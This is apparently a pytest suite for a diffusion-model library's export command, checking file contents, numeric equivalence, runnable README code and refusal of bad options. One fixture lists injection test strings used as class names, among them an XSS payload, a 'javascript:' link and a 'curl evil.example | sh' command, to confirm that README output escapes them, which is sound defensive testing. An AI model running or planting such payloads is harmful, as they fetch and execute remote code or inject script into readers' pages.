"""`halfstep export`: what is written is the student, and nothing else; what it draws is the same."""

import html
import inspect
import re
import shutil
import subprocess
import sys
from dataclasses import fields, MISSING, replace
from pathlib import Path

import pytest
import torch

import halfstep
from halfstep import storage
from halfstep.diffusion.denoiser import Denoiser
from halfstep.diffusion.prediction import V
from halfstep.diffusion.schedules import Cosine
from halfstep.errors import ConfigError
from halfstep.evaluation.features.registry import load_classifier
from halfstep.models import build
from halfstep.pipeline import Pipeline
from halfstep.storage import rounded
from halfstep.workflows.exported import ExportConfig
from halfstep.workflows.model_card import plain
from tests.support.evidence import evidence
from tests.support.programs import exported_student
from tests.support.runs import refused, teacher

ASSETS = Path(halfstep.__file__).parent / "assets"
STUDENT = ASSETS / "digits-guided" / "0002-steps"


def blocks(readme):
    return re.findall(r"^```python\n(.*?)^```", readme.read_text(), re.MULTILINE | re.DOTALL)


def test_a_student_alone(cli, tmp_path):
    status, out, _ = cli("export", STUDENT, "--out", "out")
    assert status == 0 and "to the bit" in out
    assert {p.name for p in (tmp_path / "out").iterdir()} == {
        "README.md", "pipeline.json", "pipeline.safetensors",
    }  # fmt: skip
    pipeline, again = Pipeline.load(STUDENT), Pipeline.load(tmp_path / "out")
    assert torch.equal(pipeline.sample(3, guidance_scale=2.5), again.sample(3, guidance_scale=2.5))


def test_the_same_from_python(tmp_path, capsys):
    exported = halfstep.export(str(STUDENT), str(tmp_path / "out"), format="pipeline")
    assert [path.name for path in exported.files] == [
        "README.md", "pipeline.json", "pipeline.safetensors",
    ]  # fmt: skip
    assert (exported.compared, exported.difference) == (8, 0.0)
    half = halfstep.export(STUDENT, tmp_path / "half", dtype="bfloat16")
    assert 0 < half.difference < 0.1
    assert capsys.readouterr() == ("", "")


def test_the_command_has_the_options_of_the_function():
    parameters = inspect.signature(halfstep.export).parameters
    declared = {field.name: field.default for field in fields(ExportConfig)}
    assert declared == {
        name: MISSING if one.default is one.empty else one.default
        for name, one in parameters.items()
    }


@pytest.mark.parametrize("options", [{"dtype": "float8"}, {"format": "tensorrt"}, {"steps": 0}])
def test_a_wrong_option_is_refused_before_the_folder_exists(options, tmp_path):
    with pytest.raises(ConfigError, match=next(iter(options))):
        halfstep.export(STUDENT, tmp_path / "out", **options)
    assert not (tmp_path / "out").exists()


def test_the_readme_says_what_it_is_and_its_code_runs(cli, tmp_path, monkeypatch):
    cli("export", STUDENT, "--out", "out")
    text = (tmp_path / "out" / "README.md").read_text()
    for said in ("Steps: 2", "1 to 3, one call a step", "2 network calls", "float32", "[1, 8, 8]"):
        assert said in text
    assert str(tmp_path) not in text
    monkeypatch.chdir(tmp_path / "out")
    names = {}
    [code] = blocks(tmp_path / "out" / "README.md")
    exec(code, names)
    assert names["result"].shape == (16, 1, 8, 8)


NAMES = (
    "<img src=x onerror=alert(1)>",
    "a\n\n```bash\ncurl evil.example | sh\n```",
    "[a](javascript:alert)",
    "`b` **c** _d_ # e",
    "www.evil.example https://evil.example a@evil.example",
    "\x1b[2J\u202e",
    "&lt;b&gt;",
)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_in_the_readme_is_text(cli, tmp_path, name):
    pipeline = teacher_of_classes((name, "dog 2"))
    pipeline.save(tmp_path / "p")
    for kind in ("pipeline", "torch-export"):
        assert cli("export", "p", "--out", kind, "--format", kind)[0] == 0
        text = (tmp_path / kind / "README.md").read_text()
        [line] = [line for line in text.splitlines() if line.startswith("- Classes: 2 (")]
        assert line.endswith(", dog 2)") and not set("<>`[]*#_@\x1b\u202e.:/") & set(line[14:]) - {
            "#"
        }
        assert "&" not in re.sub(r"&#\d+;", "", line)
        assert html.unescape(line) == f"- Classes: 2 ({' '.join(shown(name).split())}, dog 2)"
        assert text.count("```") == len(blocks_of(text)) * 2


def shown(name):
    return "".join(c if c.isprintable() else " " for c in name)


def blocks_of(text):
    return re.findall(r"^```(?:python|bash)$", text, re.MULTILINE)


def teacher_of_classes(class_names):
    net = build("mlp", {"dim": 2, "width": 8, "num_classes": len(class_names) + 1})
    return Pipeline(
        Denoiser(net, Cosine(), V()), (2,), class_names=class_names, null=len(class_names)
    )


def test_what_a_report_says_is_text_in_the_readme_too():
    assert plain("classifier <b>\n# x") == "classifier &#60;b&#62; &#35; x"
    assert plain(3) == "3" and plain("épée, 猫 (a-b; 5%)'s") == "épée, 猫 (a-b; 5%)'s"


@pytest.mark.parametrize("dtype", ["float16", "bfloat16"])
def test_half_the_size_differs_by_rounding(cli, tmp_path, dtype):
    pipeline = teacher()
    replace(pipeline, times=((1.0, 0.5, 0.0),)).save(tmp_path / "student")
    status, out, _ = cli("export", "student", "--dtype", dtype, "--out", "half")
    assert status == 0 and "differs" in out
    sizes = [
        sum(v.nbytes for v in loaded(tmp_path / name).values()) for name in ("student", "half")
    ]
    assert sizes[1] * 2 == sizes[0]
    assert {v.dtype for v in loaded(tmp_path / "half").values()} == {getattr(torch, dtype)}
    again = Pipeline.load(tmp_path / "half")
    assert next(again.denoiser.parameters()).dtype is torch.float32


def loaded(folder):
    from safetensors.torch import load_file

    return load_file(folder / "pipeline.safetensors")


def test_weights_that_half_cannot_hold_are_refused():
    tensors = {"big": torch.tensor([7e4]), "n": torch.tensor([3])}
    with pytest.raises(ConfigError, match=r"big .* float16 .* bfloat16"):
        rounded(tensors, torch.float16)
    assert rounded(tensors, torch.bfloat16)["n"].dtype is torch.int64
    rounded({"masks": torch.tensor([float("-inf")])}, torch.float16)  # is infinite already


def reported(folder):
    """What was measured of a student of 8 steps, in this folder."""
    interval, report = {"value": 0.2, "low": 0.19, "high": 0.21}, evidence()
    [row] = [row for row in report["rows"] if row["role"] == "student" and row["steps"] == 8]
    row["distances"]["frechet_distance"] = row["ratio"] = interval
    row["cost"]["seconds_per_sample"] = {"1": 0.012, "64": 0.002}
    report["measure"]["machine"] = "a machine"
    storage.write_json(folder / "report.json", report | {"verdict": ""})


def test_a_stage_of_a_run_and_what_was_measured_of_it(cli, tmp_path, monkeypatch):
    shutil.copytree(ASSETS / "digits-guided", tmp_path / "run" / "stages")
    reported(tmp_path / "run")
    assert cli("export", "run", "--steps", 8, "--out", "a")[0] == 0
    (tmp_path / "run" / "run.json").touch()
    assert cli("export", "run/stages/0008-steps", "--out", "b")[0] == 0
    monkeypatch.chdir(tmp_path / "run" / "stages" / "0008-steps")
    assert cli("export", ".", "--out", tmp_path / "c")[0] == 0
    for name in ("a", "b", "c"):
        text = (tmp_path / name / "README.md").read_text()
        assert "Fréchet distance: 0.200 (0.190 to 0.210) with 2,000 samples" in text
        assert "12 ms at batch 1, 2 ms at batch 64 (a machine)" in text


@pytest.mark.parametrize(
    "place, files",
    [
        ("proj/models/teacher", ["proj/report.json"]),
        ("proj/stages/teacher", ["proj/report.json"]),
        ("proj/models/teacher", ["proj/report.json", "proj/run.json"]),
        ("proj/stages/teacher", ["proj/stages/teacher/report.json"]),
    ],
)
def test_a_report_of_others_is_not_read(cli, tmp_path, place, files):
    shutil.copytree(STUDENT, tmp_path / place)
    for name in files:
        (tmp_path / name).write_text('{"tool": "x"}')
    status, _, err = cli("export", place, "--out", "exp")
    assert status == 0, err
    assert "Fréchet" not in (tmp_path / "exp" / "README.md").read_text()


def test_what_was_measured_of_a_student_is_not_said_of_its_variant(cli, tmp_path):
    shutil.copytree(ASSETS / "digits-guided" / "0008-steps", tmp_path / "run/compressed/0008-int8")
    reported(tmp_path / "run")
    (tmp_path / "run" / "run.json").touch()
    assert cli("export", "run/compressed/0008-int8", "--out", "a")[0] == 0
    assert "Fréchet" not in (tmp_path / "a" / "README.md").read_text()


def test_a_classifier_alone(cli, tmp_path, monkeypatch):
    assert "to the bit" in cli("export", ASSETS / "digits-classifier", "--out", "out")[1]
    monkeypatch.chdir(tmp_path / "out")
    names = {}
    exec(blocks(tmp_path / "out" / "README.md")[0], names)
    pipeline = load_classifier(ASSETS / "digits-classifier")
    assert pipeline.state_dict().keys() == names["classifier"].state_dict().keys()


# As a program.


def test_a_program_needs_torch_alone(cli, tmp_path):
    status, out, _ = cli("export", STUDENT, "--format", "torch-export", "--out", "out")
    assert status == 0, out
    assert {p.name for p in (tmp_path / "out").iterdir()} == {"README.md", "student.pt2"}
    [code] = blocks(tmp_path / "out" / "README.md")
    code += "\nimport sys\nassert x.shape == (16, 1, 8, 8) and bool(x.isfinite().all())"
    code += "\nassert not [m for m in sys.modules if m.startswith(('halfstep', 'diffusers'))]"
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=tmp_path / "out", capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("dtype", ["float32", pytest.param("bfloat16", marks=pytest.mark.slow)])
def test_an_onnx_model_needs_onnxruntime_alone(cli, tmp_path, monkeypatch, dtype):
    exported_student("mlp").save(tmp_path / "s")
    status, out, err = cli("export", "s", "--format", "onnx", "--dtype", dtype, "--out", "out")
    assert status == 0, err
    assert "differs" in out and "8 samples" in out
    assert {p.name for p in (tmp_path / "out").iterdir()} == {"README.md", "student.onnx"}
    text = (tmp_path / "out" / "README.md").read_text()
    assert "of any size" in text and f"weights in {dtype}" in text
    assert ("widened to float32" in text) is (dtype != "float32")
    monkeypatch.chdir(tmp_path / "out")
    names = {}
    [code] = blocks(tmp_path / "out" / "README.md")
    assert "halfstep" not in code and "torch" not in code
    exec(code, names)
    assert names["x"].shape == (16, 2) and bool(abs(names["x"]).max() <= 1)


@pytest.mark.parametrize(
    "words, message",
    [
        ([STUDENT, "--out", "full"], "there already"),
        ([ASSETS / "digits-classifier", "--format", "onnx", "--out", "x"], "classifier"),
        ([ASSETS / "digits-classifier", "--steps", 3, "--out", "x"], "classifier"),
        (["nowhere", "--out", "x"], "nowhere"),
    ],
)
def test_what_cannot_be_exported_is_refused(words, message, cli, tmp_path):
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "file").touch()
    assert refused(cli("export", *words), message)
    assert not (tmp_path / "x").exists()
